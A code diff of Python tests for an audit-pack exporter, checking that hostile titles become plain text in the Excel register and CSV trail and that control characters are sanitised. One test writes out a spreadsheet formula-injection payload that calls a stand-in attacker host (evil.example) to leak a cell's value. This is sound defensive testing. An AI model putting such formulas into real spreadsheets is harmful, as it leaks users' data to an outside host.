@@ -57,9 +57,7 @@ def acme(workspace, tmp_path: Path) -> Engagement:
 
 
 def pack(workspace, target: Path, **options) -> audit_pack.PackResult:
-    return audit_pack.build_pack(
-        workspace, target, actor="Mara", now=PACK_TIME, **options
-    )
+    return audit_pack.build_pack(workspace, target, actor="Mara", now=PACK_TIME, **options)
 
 
 def pdf_text(data: bytes) -> str:
@@ -281,3 +279,43 @@ def test_progress_counts_every_step(workspace, acme, tmp_path: Path) -> None:
         "Register (Excel)", "Planner (calendar and table)", "Audit trail (CSV)",
         "Index and manifest",
     ]  # fmt: skip
+
+
+def test_hostile_titles_stay_text_in_the_pack(workspace, acme, tmp_path: Path) -> None:
+    title = '=HYPERLINK("http://evil.example/?x="&A1,"Open")'
+    tamper(workspace, "UPDATE artifact SET title = ?, owner = ? WHERE id = ?", title,
+           "@SUM(1+1)", acme.procedure)  # fmt: skip
+    pack(workspace, tmp_path / "pack.zip")
+    with zipfile.ZipFile(tmp_path / "pack.zip") as archive:
+        book = openpyxl.load_workbook(io.BytesIO(archive.read("register.xlsx")))
+        trail = list(csv.reader(io.StringIO(archive.read("audit-trail.csv").decode("utf-8"))))
+    sheet = book["Register"]
+    row = next(r for r in sheet.iter_rows(min_row=2) if r[0].value == acme.procedure)
+    assert (row[1].value, row[1].data_type, row[1].quotePrefix) == (title, "s", True)
+    assert (row[4].value, row[4].data_type) == ("@SUM(1+1)", "s")
+    assert all(cell.data_type != "f" for r in sheet.iter_rows() for cell in r)
+    assert all(not field.startswith(("=", "+", "-", "@")) for r in trail for field in r)
+
+
+def test_control_characters_in_a_title_do_not_break_the_pack(
+    workspace, acme, tmp_path: Path
+) -> None:
+    tamper(workspace, "UPDATE artifact SET title = ? WHERE id = ?",
+           "Access\x00Control\x1b Policy\x07", acme.policy)  # fmt: skip
+    result = pack(workspace, tmp_path / "pack.zip", include_drafts=True)
+    assert result.documents == 2
+    with zipfile.ZipFile(tmp_path / "pack.zip") as archive:
+        check_manifest(archive)
+        names = archive.namelist()
+        book = openpyxl.load_workbook(io.BytesIO(archive.read("register.xlsx")))
+        (word,) = [n for n in names if n.startswith("documents/001-") and n.endswith(".docx")]
+        (pdf,) = [n for n in names if n.startswith("documents/001-") and n.endswith(".pdf")]
+        scratch = tmp_path / "policy.docx"
+        scratch.write_bytes(archive.read(word))
+        pdf_bytes = archive.read(pdf)
+    assert book["Register"]["B2"].value == "Access\ufffdControl\ufffd Policy\ufffd"
+    assert (
+        docx.Document(str(scratch)).core_properties.title
+        == "Access\ufffdControl\ufffd Policy\ufffd"
+    )
+    assert "Access\ufffdControl\ufffd Policy" in pdf_text(pdf_bytes)
